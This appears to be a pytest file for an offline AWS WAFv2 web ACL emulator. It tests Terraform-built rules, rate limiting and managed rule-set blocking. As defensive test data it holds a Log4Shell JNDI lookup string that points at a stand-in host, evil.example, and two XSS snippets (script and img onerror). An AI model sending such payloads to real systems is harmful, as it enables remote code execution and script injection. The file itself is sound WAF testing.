"""offline/wafv2/: web ACLs created from Terraform's blocks, shaped by the API's own input shapes."""

from __future__ import annotations

import json
from typing import Any

import pytest

from offline.engine.cloud import OfflineCloud
from offline.engine.terraform import TerraformError
from offline.wafv2.acl import UnsupportedWafRule, WafRequest, WebAcl
from tests.events import submission
from tests.offline_stacks import small_stack

VISIBILITY = [{"cloudwatch_metrics_enabled": True, "metric_name": "m", "sampled_requests_enabled": True}]
WEB_ACL = {
    "name": "test-acl",
    "scope": "REGIONAL",
    "default_action": {"allow": {}},
    "rule": [
        {
            "name": "rate-limit",
            "priority": 0,
            "action": [{"block": [{}]}],
            "statement": [{"rate_based_statement": [{"aggregate_key_type": "IP", "limit": 1000}]}],
            "visibility_config": VISIBILITY,
        }
    ],
    "visibility_config": VISIBILITY,
}


def test_a_web_acl_is_created_with_its_rules():
    with OfflineCloud(small_stack({"aws_wafv2_web_acl": {"a": WEB_ACL}})) as running:
        acl = running.resource("aws_wafv2_web_acl", "a")
        found = running.client("wafv2").get_web_acl(Name="test-acl", Scope="REGIONAL", Id=acl["id"])["WebACL"]
    [rule] = found["Rules"]
    assert rule["Statement"]["RateBasedStatement"] == {"AggregateKeyType": "IP", "Limit": 1000}


def test_a_block_the_api_does_not_know_is_an_error_naming_it():
    document = small_stack({"aws_wafv2_web_acl": {"a": {**WEB_ACL, "captcha_config_typo": {}}}})
    with pytest.raises(TerraformError, match="captcha_config_typo"), OfflineCloud(document):
        pass


# --- the web ACL deciding requests (offline/wafv2/acl.py) ------------------------------------------------


def stack_acl(dev: dict[str, Any], clock: Any = None) -> WebAcl:
    """The dev stack's synthesized web ACL (its rules hold no Terraform reference)."""
    from tests.tf import only

    _, acl = only(dev, "aws_wafv2_web_acl", "frontend")
    return WebAcl(acl, clock=clock) if clock else WebAcl(acl)


def request(path: str, body: bytes = b"", *, ip: str = "203.0.113.9", **headers: str) -> WafRequest:
    return WafRequest("POST", path, {"User-Agent": "test", **headers}, body, ip)


def largest_review() -> bytes:
    """The biggest body the request model accepts: 5,000 characters outside the BMP, each a 12-byte escape."""
    return json.dumps(submission(text="\U0001f355" * 5000, reviewerName="N" * 200)).encode()


def test_the_largest_review_the_api_accepts_passes_the_web_acl(dev):
    body = largest_review()
    assert len(body) > 60_000
    assert stack_acl(dev).inspect(request("/v1/reviews", body)) is None


def test_a_5000_character_japanese_review_passes_though_over_the_core_rule_sets_8_kb(dev):
    body = json.dumps(submission(text="美味しい" * 1250), ensure_ascii=False).encode()
    assert len(body) > 15_000
    assert stack_acl(dev).inspect(request("/v1/reviews", body)) is None


def test_html_in_a_review_reaches_the_api_which_escapes_it(dev):
    body = json.dumps(submission(text='Great! <script>alert("x")</script> <img src=x onerror=alert(1)>')).encode()
    assert stack_acl(dev).inspect(request("/v1/reviews", body)) is None


def test_the_body_rules_still_block_everywhere_but_reviews(dev):
    acl = stack_acl(dev)
    assert acl.inspect(request("/v1/cases/c-1/resolution", b'{"note": "' + b"x" * 9000 + b'"}')) == (
        "body-rules-outside-reviews"
    )
    assert acl.inspect(request("/v1/cases/c-1/resolution", b'{"note": "<script>x</script>"}')) == (
        "body-rules-outside-reviews"
    )


def test_the_core_rule_set_still_blocks_a_request_without_a_user_agent(dev):
    headless = WafRequest("POST", "/v1/reviews", {}, b"{}", "203.0.113.9")
    assert stack_acl(dev).inspect(headless) == "aws-common-rule-set:NoUserAgent_HEADER"


def test_a_log4j_lookup_is_blocked_by_the_known_bad_inputs_rules(dev):
    body = json.dumps(submission(text="${jndi:ldap://evil.example/a}")).encode()
    assert stack_acl(dev).inspect(request("/v1/reviews", body)) == "aws-known-bad-inputs:Log4JRCE_BODY"


def test_one_client_over_the_rate_limit_is_blocked_within_the_five_minute_window_and_others_are_not(dev):
    now = [0.0]
    acl = stack_acl(dev, clock=lambda: now[0])
    for _ in range(1000):
        assert acl.inspect(request("/v1/reviews", b"{}")) is None
    assert acl.inspect(request("/v1/reviews", b"{}")) == "per-client-rate-limit"
    assert acl.inspect(request("/v1/reviews", b"{}", ip="198.51.100.7")) is None
    now[0] = 301.0
    assert acl.inspect(request("/v1/reviews", b"{}")) is None


@pytest.mark.parametrize(
    "statement",
    [
        {"geo_match_statement": [{"country_codes": ["NL"]}]},
        {"managed_rule_group_statement": [{"vendor_name": "AWS", "name": "AWSManagedRulesSQLiRuleSet"}]},
        {
            "byte_match_statement": [
                {
                    "search_string": "x",
                    "positional_constraint": "CONTAINS",
                    "field_to_match": [{"body": [{}]}],
                    "text_transformation": [{"priority": 0, "type": "NONE"}],
                }
            ]
        },
    ],
    ids=["geo-match", "unknown-managed-group", "byte-match-on-body"],
)
def test_a_rule_the_emulator_cannot_decide_is_refused_at_load_rather_than_allowed(statement):
    rule = {"name": "r", "priority": 0, "action": [{"block": [{}]}], "statement": [statement]}
    with pytest.raises(UnsupportedWafRule, match="acl/r: "):
        WebAcl({"name": "acl", "rule": [rule]})
